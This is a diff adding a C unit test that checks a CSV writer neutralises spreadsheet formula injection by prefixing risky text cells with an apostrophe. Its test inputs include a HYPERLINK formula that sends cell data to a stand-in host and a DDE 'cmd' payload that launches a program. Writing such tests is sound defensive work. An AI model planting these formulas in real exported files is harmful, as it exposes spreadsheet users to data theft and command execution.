@@ -118,6 +118,32 @@ static void test_writer_quotes(void **st)
     free(buf);
 }
 
+/* CSV injection (OWASP): a text cell a spreadsheet would run as a formula
+ * gets a leading apostrophe; numbers and ordinary text are as they were. */
+static void test_writer_neutralises_formulas(void **st)
+{
+    (void)st;
+    char *buf = NULL;
+    size_t len = 0;
+    FILE *fp = open_memstream(&buf, &len);
+    const char *f[] = {"=HYPERLINK(\"http://x/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                       "\tX", "\rY", "-3", "+1.5", "-2e-3", "K1", "a=b", "-", "-inf", ""};
+    csv_put_text_row(fp, f, 14);
+    fclose(fp);
+    assert_string_equal(buf, "\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",\"'+1+cmd|' /C calc'!A0\","
+                             "\"'-2+3\",\"'@SUM(A1)\",\"'\tX\",\"'\rY\",-3,+1.5,-2e-3,K1,a=b,"
+                             "\"'-\",\"'-inf\",\n");
+    struct rows r;
+    struct lscb_error e = {0};
+    assert_int_equal(parse(buf, 0, &r, &e), LSCB_OK);
+    assert_int_equal(r.nf[0], 14);
+    for (int i = 0; i < 6; i++)
+        assert_int_equal(r.cell[0][i][0], '\'');
+    assert_false(csv_text_is_formula("205"));
+    assert_true(csv_text_is_formula("=1"));
+    free(buf);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -127,6 +153,7 @@ int main(void)
         cmocka_unit_test(test_stray_quote_stops),
         cmocka_unit_test(test_stray_quote_huge_file_bounded),
         cmocka_unit_test(test_writer_quotes),
+        cmocka_unit_test(test_writer_neutralises_formulas),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
